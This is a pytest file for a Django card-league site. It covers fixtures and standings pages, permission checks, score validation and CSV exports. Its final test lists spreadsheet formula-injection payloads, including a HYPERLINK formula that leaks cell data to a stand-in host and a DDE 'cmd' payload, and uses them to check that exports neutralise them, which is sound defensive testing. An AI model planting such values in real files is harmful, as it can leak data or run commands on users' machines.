"""The fixtures and standings pages: each write works for an organiser (or, to start a game,
anyone signed in) and is refused with nothing saved for who may not; typed scores are checked
next to the field; the standings read as a person sees them; the CSV exports; query counts
that do not grow with the league."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from league.competitions import services as competitions_services
from league.games import services as games_services
from league.models import Competition, Fixture, FixtureStatus, Game
from scoring import Deal
from scoring.standings import MatchPoints
from tests.builders import fixtures_of, make_league, names, query_count
from tests.league.html import Element, parse

pytestmark = pytest.mark.django_db


# -- building a league -------------------------------------------------------------------------


def play(fixture: Fixture, by: User, winner: int = 0) -> Game:
    """A game at the table: ``winner`` makes 100 a deal to the other's 62, five deals."""
    game = competitions_services.fixture_start_game(fixture=fixture, by=by)
    points = (100, 62) if winner == 0 else (62, 100)
    for _ in range(5):
        games_services.game_add_deal(game=game, deal=Deal(makers=winner, card_points=points), by=by)
    return game


def url(name: str, competition: Competition, fixture: Fixture | None = None) -> str:
    args = [competition.slug] + ([fixture.pk] if fixture is not None else [])
    return reverse(name, args=args)


def error_texts(page: Element, field: str) -> list[str]:
    return [p.text for p in page.iter("p") if p.has_class("error") and p.attrs.get("id") == field]


def result_state(fixture: Fixture) -> tuple:
    fixture.refresh_from_db()
    return (fixture.status, fixture.finished, fixture.typed_scores, fixture.date, fixture.table)


@pytest.fixture
def league(organiser) -> Competition:
    return make_league(organiser)


# -- the fixtures page -------------------------------------------------------------------------
def test_the_fixtures_page_lists_rounds_dates_sides_results_and_byes(organiser, scorer):
    league = make_league(organiser, teams=5)  # an odd number: one pair sits out each night
    first, second, third, *_ = fixtures_of(league)
    game = play(first, scorer, winner=1)
    competitions_services.fixture_type_result(fixture=second, scores=[(512, 430)])
    competitions_services.fixture_concede(fixture=third, side=0, score=(500, 0), no_show=True)

    page = parse(Client().get(url("competitions:fixtures", league)).content)

    rounds = [s for s in page.iter("section") if s.has_class("round")]
    assert len(rounds) == 5
    heading = next(rounds[0].iter("h2")).text
    assert heading == "Round 1 Thu 8 Jan 2026"
    assert "Sits out: Pair" in rounds[0].text
    row = page.by_id(f"fixture-{first.pk}")
    cells = [td.text for td in row.iter("td")]
    assert cells[0] == f"Table {first.table}"
    assert cells[1] == " v ".join(names(first))
    assert cells[2] == "310 – 500 Played"
    link = next(a for a in row.iter("a") if a.attrs["href"] == f"/games/{game.pk}/")
    assert link.text == "Sheet"
    typed = page.by_id(f"fixture-{second.pk}").text
    assert "512 – 430" in typed and "from the paper sheet" in typed
    no_show = page.by_id(f"fixture-{third.pk}").text
    assert "0 – 500" in no_show and f"No-show by {names(third)[0]}" in no_show
    # Anonymous visitors get no buttons.
    # (The menu's language switcher is everybody's.)
    assert not [f for f in page.iter("form") if not f.has_class("language-switch")]
    assert "Manage" not in page.text


def test_signed_in_users_see_start_buttons_and_organisers_manage_links(
    league, organiser_client, scorer_client
):
    first, second, *_ = fixtures_of(league)
    competitions_services.fixture_type_result(fixture=second, scores=[(512, 430)])
    page = parse(scorer_client.get(url("competitions:fixtures", league)).content)
    assert "Start the game" in page.by_id(f"fixture-{first.pk}").text
    assert "Start the game" not in page.by_id(f"fixture-{second.pk}").text
    assert "Manage" not in page.text
    page = parse(organiser_client.get(url("competitions:fixtures", league)).content)
    manage = [a.attrs["href"] for a in page.iter("a") if a.text == "Manage"]
    assert url("competitions:fixture-detail", league, first) + "#manage" in manage


def test_a_moved_fixture_shows_its_new_date(league, organiser_client):
    fixture = fixtures_of(league)[0]
    response = organiser_client.post(
        url("competitions:fixture-move", league, fixture),
        {"move-date": "2026-01-15", "move-table": "7"},
    )
    assert response.status_code == 302
    assert response["Location"] == url("competitions:fixtures", league) + f"#fixture-{fixture.pk}"
    fixture.refresh_from_db()
    assert (fixture.date, fixture.table) == (datetime.date(2026, 1, 15), "7")
    page = parse(Client().get(url("competitions:fixtures", league)).content)
    row = page.by_id(f"fixture-{fixture.pk}")
    assert "Moved to Thu 15 Jan 2026" in row.text
    assert next(row.iter("td")).text == "Table 7"


def test_a_long_season_comes_ten_rounds_a_page_opening_on_the_current_one(organiser):
    league = make_league(organiser, teams=18)  # 17 rounds: two pages
    for fixture in league.fixtures.filter(round__number__lte=11):
        competitions_services.fixture_type_result(fixture=fixture, scores=[(512, 430)])

    def shown(response) -> list[int]:
        assert response.status_code == 200
        page = parse(response.content)
        return [int(s.attrs["id"].split("-")[1]) for s in page.iter("section")]

    response = Client().get(url("competitions:fixtures", league))
    assert shown(response) == list(range(11, 18))  # round 12 is the first still open
    pages = next(n for n in parse(response.content).iter("nav") if n.has_class("fx-pages"))
    assert [(a.text, a.attrs.get("aria-current")) for a in pages.iter("a")] == [
        ("1–10", None),
        ("11–17", "page"),
    ]
    first = Client().get(url("competitions:fixtures", league), {"page": "1"})
    assert shown(first) == list(range(1, 11))
    # A page number out of range opens the nearest page, a word the first (never an error).
    for asked, rounds in (("3", range(11, 18)), ("0", range(1, 11)), ("x", range(1, 11))):
        response = Client().get(url("competitions:fixtures", league), {"page": asked})
        assert shown(response) == list(rounds)


# -- writes: who may and who may not -----------------------------------------------------------
WRITES = {
    "competitions:fixture-move": {"move-date": "2026-02-01", "move-table": "9"},
    "competitions:fixture-concede": {
        "concede-kind": "forfeit",
        "concede-side": "0",
        "concede-score": "500-0",
    },
    "competitions:fixture-result": {"typed-scores": "512-430"},
}


@pytest.mark.parametrize("view", WRITES)
def test_organiser_only_writes_refuse_scorers_and_send_anonymous_to_sign_in(
    league, scorer_client, view
):
    fixture = fixtures_of(league)[0]
    before = result_state(fixture)
    response = scorer_client.post(url(view, league, fixture), WRITES[view])
    assert response.status_code == 403
    assert result_state(fixture) == before
    response = Client().post(url(view, league, fixture), WRITES[view])
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    assert result_state(fixture) == before


@pytest.mark.parametrize("view", [*WRITES, "competitions:fixture-start"])
def test_a_fixture_of_another_competition_is_not_found(organiser, organiser_client, view):
    league = make_league(organiser)
    other = make_league(organiser, name="Summer league", club_name="Owensboro Clabber Club")
    fixture = fixtures_of(other)[0]
    before = result_state(fixture)
    response = organiser_client.post(url(view, league, fixture), WRITES.get(view, {}))
    assert response.status_code == 404
    assert result_state(fixture) == before
    assert not Game.objects.exists()
    assert (
        organiser_client.get(url("competitions:fixture-detail", league, fixture)).status_code == 404
    )


@pytest.mark.parametrize("view", WRITES)
def test_writes_are_posts(league, organiser_client, view):
    fixture = fixtures_of(league)[0]
    assert organiser_client.get(url(view, league, fixture)).status_code == 405


def test_start_the_game_asks_first_and_a_get_starts_nothing(league, scorer_client):
    fixture = fixtures_of(league)[0]
    # The fixtures list and the fixture's page lead to the question, not to a new game.
    listed = parse(scorer_client.get(url("competitions:fixtures", league)).content)
    start = url("competitions:fixture-start", league, fixture)
    assert start in [a.attrs.get("href") for a in listed.by_id(f"fixture-{fixture.pk}").iter("a")]
    root = parse(scorer_client.get(start).content)
    assert "Start the game?" in next(root.iter("h1")).text
    assert " v ".join(names(fixture)) in root.by_id("start-who").text.replace("  ", " ")
    assert not Game.objects.exists()
    assert scorer_client.post(start).status_code == 302
    assert Game.objects.count() == 1
    # Once a game runs, the question leads to it.
    again = scorer_client.get(start)
    assert again.status_code == 302 and again["Location"] == f"/games/{Game.objects.get().pk}/"
    # Anonymous visitors are sent to sign in before they are asked.
    response = Client().get(start)
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


def test_an_organiser_types_a_result_from_the_paper_sheet(league, organiser_client):
    fixture = fixtures_of(league)[0]
    response = organiser_client.post(
        url("competitions:fixture-result", league, fixture), {"typed-scores": " 512 – 430 \n"}
    )
    assert response.status_code == 302
    fixture.refresh_from_db()
    assert fixture.finished and fixture.winner == 0 and fixture.typed_scores == [[512, 430]]
    home = fixture.sides.get(side=0)
    assert (home.result, home.points_for, home.points_against) == ("win", 512, 430)


@pytest.mark.parametrize(
    ("typed", "message"),
    [
        ("512", "“512” is not two totals: write them as 512-430."),
        (
            "512-430\n500-200",
            "This competition plays 1 game(s) a match: give 1 score(s), one a line.",
        ),
        ("abc-12\n500 200", "Line 1: “abc-12” is not two totals: write them as 512-430."),
        ("", "This field is required."),
        # Well formed, but the service says no: the game is not finished.
        (
            "400-300",
            "Game 1: a finished game has one side on 500 or more, ahead of the other; "
            "400–300 is not finished.",
        ),
        (
            "500-500",
            "Game 1: a finished game has one side on 500 or more, ahead of the other; "
            "500–500 is not finished.",
        ),
        # More than a game of Clabber to 500 can reach (scoring.matches.paper_ceiling).
        (
            "100000-2",
            "Game 1: 100000 is more than a game to 500 can reach by these rules (at most 3264): "
            "check the sheet.",
        ),
    ],
)
def test_bad_typed_scores_are_refused_next_to_the_field(league, organiser_client, typed, message):
    fixture = fixtures_of(league)[0]
    before = result_state(fixture)
    response = organiser_client.post(
        url("competitions:fixture-result", league, fixture), {"typed-scores": typed}
    )
    assert response.status_code == 400
    page = parse(response.content)
    form = page.by_id("typed")
    assert error_texts(form, "typed-scores-error") == [message]
    # The form keeps what was typed, to correct it.
    assert next(form.iter("textarea")).text == " ".join(typed.split())
    assert result_state(fixture) == before
    assert not fixture.sides.exclude(result="").exists()


def test_a_best_of_three_takes_three_lines(organiser, organiser_client):
    league = make_league(organiser, games_per_match=3)
    fixture = fixtures_of(league)[0]
    response = organiser_client.post(
        url("competitions:fixture-result", league, fixture),
        {"typed-scores": "512-430\n300-505\n501-20"},
    )
    assert response.status_code == 302
    home = fixture.sides.get(side=0)
    assert (home.result, home.games_won, home.games_lost, home.points_for) == (
        "win",
        2,
        1,
        1313,
    )


def test_an_organiser_records_a_forfeit_with_the_default_score(league, organiser_client):
    fixture = fixtures_of(league)[0]
    page = parse(organiser_client.get(url("competitions:fixture-detail", league, fixture)).content)
    score = next(
        i for i in page.by_id("concede").iter("input") if i.attrs["name"] == "concede-score"
    )
    assert score.attrs["value"] == "500-0"
    response = organiser_client.post(
        url("competitions:fixture-concede", league, fixture),
        {"concede-kind": "forfeit", "concede-side": "1", "concede-score": "500-0"},
    )
    assert response.status_code == 302
    fixture.refresh_from_db()
    assert (fixture.status, fixture.winner, fixture.conceded_by) == (FixtureStatus.FORFEIT, 0, 1)
    assert fixture.sides.get(side=0).points_for == 500


def test_a_no_show_with_a_chosen_score_decides_even_a_best_of_three(organiser, organiser_client):
    league = make_league(organiser, games_per_match=3)
    fixture = fixtures_of(league)[0]
    response = organiser_client.post(
        url("competitions:fixture-concede", league, fixture),
        {"concede-kind": "no_show", "concede-side": "0", "concede-score": "1000-0"},
    )
    assert response.status_code == 302
    fixture.refresh_from_db()
    assert fixture.finished and fixture.status == FixtureStatus.NO_SHOW and fixture.winner == 1
    assert fixture.sides.get(side=1).result == "win"


@pytest.mark.parametrize(
    ("data", "field", "message"),
    [
        (
            {"concede-score": "0-500"},
            "concede-score-error",
            "A forfeit score gives the winner more points than the loser.",
        ),
        (
            {"concede-score": "lots"},
            "concede-score-error",
            "“lots” is not two totals: write them as 512-430.",
        ),
        (
            {"concede-side": "2"},
            "concede-side-error",
            "Select a valid choice. 2 is not one of the available choices.",
        ),
    ],
)
def test_a_bad_forfeit_is_refused_next_to_the_field(league, organiser_client, data, field, message):
    fixture = fixtures_of(league)[0]
    before = result_state(fixture)
    post = {"concede-kind": "forfeit", "concede-side": "0", "concede-score": "500-0", **data}
    response = organiser_client.post(url("competitions:fixture-concede", league, fixture), post)
    assert response.status_code == 400
    assert error_texts(parse(response.content).by_id("concede"), field) == [message]
    assert result_state(fixture) == before


def test_a_fixture_with_deals_cannot_be_forfeited_or_typed(league, organiser_client, scorer):
    fixture = fixtures_of(league)[0]
    game = competitions_services.fixture_start_game(fixture=fixture, by=scorer)
    games_services.game_add_deal(game=game, deal=Deal(makers=0, card_points=(100, 62)), by=scorer)
    page = parse(organiser_client.get(url("competitions:fixture-detail", league, fixture)).content)
    assert "Its games are played at the table" in page.by_id("manage").text
    response = organiser_client.post(
        url("competitions:fixture-concede", league, fixture),
        {"concede-kind": "forfeit", "concede-side": "0", "concede-score": "500-0"},
    )
    assert response.status_code == 400
    assert error_texts(parse(response.content), "concede-side-error") == [
        "Deals are already entered for this fixture; correct its games instead."
    ]
    fixture.refresh_from_db()
    assert fixture.status == FixtureStatus.SCHEDULED and fixture.typed_scores is None


def test_a_finished_fixture_cannot_be_moved(league, organiser_client):
    fixture = fixtures_of(league)[0]
    competitions_services.fixture_type_result(fixture=fixture, scores=[(512, 430)])
    response = organiser_client.post(
        url("competitions:fixture-move", league, fixture),
        {"move-date": "2026-03-01", "move-table": ""},
    )
    assert response.status_code == 400
    assert error_texts(parse(response.content), "move-date-error") == [
        "This fixture has a result; it cannot be moved."
    ]
    fixture.refresh_from_db()
    assert fixture.date is None


def test_a_bad_date_is_refused_next_to_the_field(league, organiser_client):
    fixture = fixtures_of(league)[0]
    response = organiser_client.post(
        url("competitions:fixture-move", league, fixture),
        {"move-date": "next Thursday", "move-table": "4"},
    )
    assert response.status_code == 400
    assert error_texts(parse(response.content), "move-date-error") == ["Enter a valid date."]
    fixture.refresh_from_db()
    assert (fixture.date, fixture.table) == (None, "1")


# -- starting a fixture's game -----------------------------------------------------------------
def test_a_scorer_starts_the_game_and_lands_on_its_sheet(league, scorer, scorer_client):
    fixture = fixtures_of(league)[0]
    response = scorer_client.post(url("competitions:fixture-start", league, fixture))
    game = Game.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/games/{game.pk}/"
    assert game.fixture_id == fixture.pk and game.created_by == scorer
    assert game.side_names == names(fixture)
    assert game.title == "Winter league, round 1"
    # A second tap goes to the same game rather than starting another.
    again = scorer_client.post(url("competitions:fixture-start", league, fixture))
    assert again.status_code == 302 and again["Location"] == f"/games/{game.pk}/"
    assert Game.objects.count() == 1


def test_starting_a_game_needs_sign_in_and_no_result(league, organiser_client):
    first, second, *_ = fixtures_of(league)
    response = Client().post(url("competitions:fixture-start", league, first))
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    competitions_services.fixture_type_result(fixture=second, scores=[(512, 430)])
    response = organiser_client.post(url("competitions:fixture-start", league, second))
    assert response.status_code == 302
    assert response["Location"] == url("competitions:fixture-detail", league, second)
    assert not Game.objects.exists()
    page = parse(organiser_client.get(response["Location"]).content)
    assert "This fixture already has its result." in page.text


# -- the standings -----------------------------------------------------------------------------
def standings_table(response) -> tuple[list[str], list[list[str]], Element]:
    assert response.status_code == 200
    table = parse(response.content).by_id("standings")
    head = [th.text for th in next(table.iter("thead")).iter("th")]
    body = next(table.iter("tbody"))
    rows = [[td.text for td in tr.iter("td")] for tr in body.iter("tr")]
    return head, rows, table


@pytest.fixture
def played_league(organiser, scorer) -> Competition:
    """Four pairs, match points 3-1-0. Pair 1 and Pair 3 win 500-300 on paper and end level on
    every key; Pair 2 beats Pair 4 at the table, after Pair 4 is set once as makers."""
    league = make_league(organiser, points=MatchPoints(win=3, draw=1, loss=0))
    by_pairs = {frozenset(names(f)): f for f in fixtures_of(league)}

    def fixture(a: str, b: str) -> tuple[Fixture, bool]:
        found = by_pairs[frozenset({a, b})]
        return found, names(found)[0] == a

    def typed(a: str, b: str, scores: tuple[int, int]) -> None:
        found, a_home = fixture(a, b)
        competitions_services.fixture_type_result(
            fixture=found, scores=[scores if a_home else scores[::-1]]
        )

    typed("Pair 1", "Pair 2", (500, 300))
    typed("Pair 3", "Pair 4", (500, 300))
    found, two_home = fixture("Pair 2", "Pair 4")
    two, four = (0, 1) if two_home else (1, 0)
    game = competitions_services.fixture_start_game(fixture=found, by=scorer)
    set_deal = [0, 0]
    set_deal[four], set_deal[two] = 60, 102
    deals = [Deal(makers=four, card_points=tuple(set_deal))]
    made = [0, 0]
    made[two], made[four] = 100, 62
    deals += [Deal(makers=two, card_points=tuple(made))] * 4
    for deal in deals:
        games_services.game_add_deal(game=game, deal=deal, by=scorer)
    found.refresh_from_db()
    assert found.finished
    return league


HEAD = [
    "#", "Partnership", "P", "W", "D", "L", "Pts", "For", "Agst", "Diff", "Deals", "Trump",
    "Made %", "Hicks", "Sets", "Meld", "Belles", "Ren",
]  # fmt: skip


def test_the_standings_read_in_ranking_order_with_every_column(played_league):
    head, rows, table = standings_table(Client().get(url("competitions:standings", played_league)))
    assert head == HEAD
    assert rows == [
        ["1=", "Pair 1", "1", "1", "0", "0", "3", "500", "300", "+200", "0", "0", "–", "0", "0",
         "0", "0", "0"],
        ["1=", "Pair 3", "1", "1", "0", "0", "3", "500", "300", "+200", "0", "0", "–", "0", "0",
         "0", "0", "0"],
        ["3", "Pair 2", "2", "1", "0", "1", "3", "802", "748", "+54", "5", "4", "100%", "0", "1",
         "0", "0", "0"],
        ["4", "Pair 4", "2", "0", "0", "2", "0", "548", "1002", "-454", "5", "1", "0%", "1", "0",
         "0", "0", "0"],
    ]  # fmt: skip
    links = {a.text: a.attrs["href"] for a in table.iter("a") if a.text.startswith("Pair")}
    pair = played_league.entrants.get(name="Pair 3").partnership_id
    assert links["Pair 3"] == f"/partnerships/{pair}/"
    tied = [tr for tr in next(table.iter("tbody")).iter("tr") if tr.has_class("tied")]
    assert len(tied) == 2
    page = parse(Client().get(url("competitions:standings", played_league)).content)
    order = next(p for p in page.iter("p") if p.has_class("standings-order")).text
    assert order.startswith("Ranked by Pts , then Diff , then For .")


@pytest.mark.parametrize(
    ("sort", "order"),
    [
        ("-points_for", ["Pair 2", "Pair 4", "Pair 1", "Pair 3"]),
        ("points_against", ["Pair 1", "Pair 3", "Pair 2", "Pair 4"]),
        ("-difference", ["Pair 1", "Pair 3", "Pair 2", "Pair 4"]),
        ("made", ["Pair 1", "Pair 3", "Pair 4", "Pair 2"]),  # none made trump: lowest
        ("-hicks", ["Pair 4", "Pair 1", "Pair 3", "Pair 2"]),
        ("entrant", ["Pair 1", "Pair 2", "Pair 3", "Pair 4"]),
        ("-rank", ["Pair 4", "Pair 2", "Pair 3", "Pair 1"]),
    ],
)
def test_the_standings_sort_by_any_column(played_league, sort, order):
    response = Client().get(url("competitions:standings", played_league), {"sort": sort})
    _, rows, _ = standings_table(response)
    assert [r[1] for r in rows] == order


def sort_links(response) -> dict[str, str]:
    """Each sortable heading's text to the ``sort`` its link asks for."""
    _, _, table = standings_table(response)
    links = {}
    for th in next(table.iter("thead")).iter("th"):
        for a in th.iter("a"):
            links[a.text] = a.attrs["href"].split("sort=", 1)[1].split("&", 1)[0]
    return links


def test_the_first_tap_on_a_heading_sorts_best_first(played_league):
    standings = url("competitions:standings", played_league)
    links = sort_links(Client().get(standings))
    # More is better: the most first.
    for heading, name in [
        ("Pts", "match_points"), ("W", "won"), ("For", "points_for"), ("Diff", "difference"),
        ("Made %", "made"), ("Sets", "sets_forced"), ("Meld", "meld_points"),
    ]:  # fmt: skip
        assert links[heading] == f"-{name}", heading
    # Fewer is better (and the rank, and the names): the lowest first.
    for heading, name in [
        ("L", "lost"), ("Agst", "points_against"), ("Hicks", "hicks"), ("Ren", "reneges"),
        ("#", "rank"), ("Partnership", "entrant"),
    ]:  # fmt: skip
        assert links[heading] == name, heading
    # Following the link puts the best first; the heading's next tap turns it round.
    response = Client().get(standings, {"sort": links["Diff"]})
    _, rows, _ = standings_table(response)
    assert [r[1] for r in rows] == ["Pair 1", "Pair 3", "Pair 2", "Pair 4"]
    assert sort_links(response)["Diff"] == "difference"
    response = Client().get(standings, {"sort": links["For"]})
    assert [r[1] for r in standings_table(response)[1]][:2] == ["Pair 2", "Pair 4"]


def test_a_tiebreak_column_sorts_best_first_too(organiser):
    league = make_league(organiser, tiebreaks=["match_points", "buchholz", "fewest_reneges"])
    links = sort_links(Client().get(url("competitions:standings", league)))
    assert links["Buch"] == "-key_buchholz"


def test_keys_of_the_chain_without_a_column_get_one_and_best_nights_are_noted(organiser):
    league = make_league(
        organiser, tiebreaks=["match_points", "buchholz", "wins", "games_won"], best_nights=2
    )
    first = fixtures_of(league)[0]
    competitions_services.fixture_type_result(fixture=first, scores=[(500, 300)])
    response = Client().get(url("competitions:standings", league))
    head, rows, _ = standings_table(response)
    assert head == HEAD + ["Buch", "Games", "Nights"]
    winner, loser = names(first)
    assert rows[0][1] == winner and rows[0][-3:] == ["0", "1", "1"]
    assert rows[1][1] == loser and rows[1][-3:] == ["2", "0", "1"]
    assert [r[0] for r in rows] == ["1", "2", "3=", "3="]
    page = parse(response.content)
    assert "Only each entrant’s best 2 nights count." in page.text
    legend = next(d for d in page.iter("details") if d.has_class("standings-legend")).text
    assert "Buch Sum of the opponents' match points (byes add nothing)." in legend


def test_the_standings_export_as_csv_in_the_order_shown(played_league):
    response = Client().get(url("competitions:standings", played_league), {"_export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f"{played_league.slug}-standings.csv" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == HEAD
    assert rows[1][:10] == ["1=", "Pair 1", "1", "1", "0", "0", "3", "500", "300", "200"]
    assert [r[1] for r in rows[1:]] == ["Pair 1", "Pair 3", "Pair 2", "Pair 4"]
    sorted_rows = list(
        csv.reader(
            io.StringIO(
                Client()
                .get(
                    url("competitions:standings", played_league),
                    {"_export": "csv", "sort": "entrant"},
                )
                .content.decode("utf-8-sig")
            )
        )
    )
    assert [r[1] for r in sorted_rows[1:]] == ["Pair 1", "Pair 2", "Pair 3", "Pair 4"]
    other = Client().get(url("competitions:standings", played_league), {"_export": "xls"})
    assert other.status_code == 404


def test_results_csv_has_every_fixture(organiser, scorer):
    league = make_league(organiser)
    first, second, third, *_ = fixtures_of(league)
    competitions_services.fixture_type_result(fixture=first, scores=[(512, 430)])
    play(second, scorer, winner=1)
    competitions_services.fixture_concede(fixture=third, side=1, score=(500, 0))
    competitions_services.fixture_reschedule(
        fixture=fixtures_of(league)[3], date=datetime.date(2026, 2, 2)
    )
    response = Client().get(url("competitions:results-csv", league))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 6
    by_home = {(r["home"], r["away"]): r for r in rows}

    def row(fixture: Fixture) -> dict:
        return by_home[tuple(names(fixture))]

    assert row(first) | {} == {
        "round": "1",
        "date": "2026-01-08",
        "table": first.table,
        "home": names(first)[0],
        "away": names(first)[1],
        "status": "Played",
        "score": "512 – 430",
        "winner": names(first)[0],
        "home_points": "512",
        "away_points": "430",
        "games": "512-430",
        "note": "from the paper sheet",
    }
    assert (row(second)["winner"], row(second)["games"]) == (names(second)[1], "310-500")
    assert (row(third)["status"], row(third)["winner"], row(third)["note"]) == (
        "Forfeit",
        names(third)[0],
        f"Forfeit by {names(third)[1]}",
    )
    moved = row(fixtures_of(league)[3])
    assert (moved["date"], moved["status"], moved["winner"], moved["home_points"]) == (
        "2026-02-02",
        "Scheduled",
        "",
        "",
    )


# -- query counts ------------------------------------------------------------------------------
def season(organiser: User, scorer: User, teams: int, name: str) -> Competition:
    """A league of ``teams`` pairs with results of every kind on its first nights."""
    league = make_league(organiser, teams=teams, name=name, club_name=f"{name} club")
    fixtures = fixtures_of(league)
    played = max(1, teams // 4)
    for fixture in fixtures[:played]:
        play(fixture, scorer)
    for fixture in fixtures[played : 3 * played]:
        competitions_services.fixture_type_result(fixture=fixture, scores=[(512, 430)])
    for fixture in fixtures[3 * played : 4 * played]:
        competitions_services.fixture_concede(fixture=fixture, side=0, score=(500, 0))
    competitions_services.fixture_start_game(fixture=fixtures[4 * played], by=scorer)  # one in play
    return league


@pytest.mark.parametrize(
    "page",
    ["competitions:fixtures", "competitions:standings", "competitions:results-csv"],
)
def test_query_counts_do_not_grow_with_the_league(organiser, scorer, organiser_client, page):
    small = season(organiser, scorer, 4, "Small")
    large = season(organiser, scorer, 12, "Large")
    assert (
        large.fixtures.filter(finished=True).count()
        >= 3 * small.fixtures.filter(finished=True).count()
    )
    for client in (Client(), organiser_client):
        few = query_count(client, url(page, small))
        many = query_count(client, url(page, large))
        assert few == many, (page, few, many)
    assert query_count(Client(), url(page, large)) <= 7


#: Names a stranger could give, that a spreadsheet would run as formulas if written raw.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
)


def csv_rows(response) -> list[list[str]]:
    """The CSV as a spreadsheet reads it, after checking it starts with the UTF-8 BOM."""
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_every_csv_neutralises_formulas_keeps_accents_and_writes_numbers(organiser, scorer):
    league = make_league(organiser, teams=5)
    names_now = dict(
        zip([f"Pair {i}" for i in range(1, 6)], (*HOSTILE_NAMES, "Zoë – Ann"), strict=True)
    )
    for old, new in names_now.items():
        league.entrants.filter(name=old).update(name=new)
    for fixture in fixtures_of(league)[:2]:
        play(fixture, scorer, winner=0)
    standings = csv_rows(Client().get(url("competitions:standings", league), {"_export": "csv"}))
    results = csv_rows(Client().get(url("competitions:results-csv", league)))
    for rows in (standings, results):
        cells = [cell for row in rows for cell in row]
        assert "Zoë – Ann" in cells
        for cell in cells:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start so; a name never does
        for name in HOSTILE_NAMES:
            assert "'" + name in cells
    head = standings[0]
    made, diff = head.index("Made %"), head.index("Diff")
    by_name = {row[1]: row for row in standings[1:]}
    winners = {row[1] for row in standings[1:] if row[head.index("W")] == "1"}
    assert len(winners) == 2
    for name, row in by_name.items():
        if name in winners:
            assert float(row[made]) == 100 and int(row[diff]) > 0
        else:
            # Never made trump: no share to give, so an empty cell, not "–".
            assert row[made] == "" and int(row[diff]) <= 0
    assert sorted(row[diff] for row in standings[1:])[0] == "-190"  # a number, not "'-190"
    unplayed = [row for row in results[1:] if row[results[0].index("status")] == "Scheduled"]
    assert unplayed and all(row[results[0].index("home_points")] == "" for row in unplayed)
